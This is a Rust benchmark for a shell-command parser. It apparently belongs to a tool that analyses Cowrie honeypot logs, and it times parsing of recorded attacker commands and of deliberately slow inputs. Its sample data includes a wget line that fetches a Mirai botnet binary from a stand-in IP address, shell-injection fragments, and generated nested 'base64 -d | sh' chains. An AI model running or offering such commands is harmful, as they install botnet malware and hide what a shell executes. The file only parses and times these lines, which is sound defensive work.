//! How fast typed lines become commands, on one core: the lines of the bundled logs, or those of the file that
//! `VESPID_LINES` names, one command line in each of its lines; then lines of ten kilobytes that are made to be slow.
#![expect(clippy::unwrap_used, reason = "a benchmark that cannot go on has failed")]

use std::hint::black_box;
use std::path::Path;

use criterion::{BenchmarkId, Criterion, Throughput, criterion_group, criterion_main};
use vespid_shell::parse;

fn real(criterion: &mut Criterion) {
    let lines = lines();
    let mut group = criterion.benchmark_group("parse");
    group.throughput(Throughput::Elements(lines.len() as u64));
    group.bench_function("real", |bencher| {
        bencher.iter(|| lines.iter().for_each(|line| drop(black_box(parse(black_box(line))))));
    });
    group.throughput(Throughput::Elements(1));
    for line in TYPICAL {
        group.bench_with_input(BenchmarkId::new("line", line), line, |bencher, line| {
            bencher.iter(|| parse(black_box(line)));
        });
    }
    group.finish();
}

/// Two commands in sixty bytes.
const TYPICAL: &[&str] = &[
    "cd /tmp; wget http://192.0.2.1/bins/mirai.x86 -O /tmp/update",
    "cat /proc/cpuinfo | grep name | head -n 1 2>/dev/null",
    "uname -a",
];

fn hostile(criterion: &mut Criterion) {
    let mut group = criterion.benchmark_group("hostile");
    for piece in HOSTILE {
        let line = piece.repeat(10_000 / piece.len());
        group.bench_with_input(BenchmarkId::from_parameter(piece.escape_debug()), &line, |bencher, line| {
            bencher.iter(|| parse(black_box(line)));
        });
    }
    for (name, line) in [("a=b;$a$a", variables()), ("base64 in base64", encoded())] {
        group.bench_with_input(BenchmarkId::from_parameter(name), &line, |bencher, line| {
            bencher.iter(|| parse(black_box(line)));
        });
    }
    group.finish();
}

const HOSTILE: &[&str] = &[
    "$(",
    "`",
    ";",
    "a;",
    "a|",
    "\"",
    "'a'",
    "\\",
    "\\a",
    "<<A ",
    "<<A\n",
    "eval ",
    "eval '",
    "eval $(",
    "sudo ",
    "sh -c ",
    "(",
    "{ ",
    "case x in ",
    "${a:-",
    "$((",
    "a=(",
    "a=b;",
    "$a",
    ">a ",
    "a ",
    "cd a;",
    "é",
    "python -c 'os.system(\"",
    "echo a|sh;",
    "echo a|rev|",
];

fn variables() -> String {
    format!("a={};{}", "b".repeat(4000), "$a".repeat(3000))
}

/// `echo ... | base64 -d | sh` inside itself, as deep as ten kilobytes allow.
fn encoded() -> String {
    let mut line = "id".to_owned();
    loop {
        let next = format!("echo {}|base64 -d|sh", base64(line.as_bytes()));
        if next.len() > 10_000 {
            return line;
        }
        line = next;
    }
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let group = |chunk: &[u8]| {
        let bits = (0..3).fold(0, |bits, place| bits << 8 | usize::from(*chunk.get(place).unwrap_or(&0)));
        let letter = move |place: usize| char::from(LETTERS[bits >> (18 - 6 * place) & 63]);
        let letters = (0..=chunk.len()).map(letter);
        letters.chain(std::iter::repeat_n('=', 3 - chunk.len())).collect::<String>()
    };
    bytes.chunks(3).map(group).collect()
}

fn lines() -> Vec<String> {
    if let Some(path) = std::env::var_os("VESPID_LINES") {
        return std::fs::read_to_string(path).unwrap().lines().map(str::to_owned).collect();
    }
    let samples = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../data/samples");
    let logs =
        ["cowrie-a.json", "cowrie-b.json"].map(|name| std::fs::read_to_string(samples.join(name)).unwrap());
    let event = |line: &str| serde_json::from_str::<serde_json::Value>(line).ok();
    let events = logs.iter().flat_map(|log| log.lines()).filter_map(event);
    let inputs = events.filter(|event| event["eventid"] == "cowrie.command.input");
    inputs.filter_map(|event| event["input"].as_str().map(str::to_owned)).collect()
}

criterion_group!(benches, real, hostile);
criterion_main!(benches);
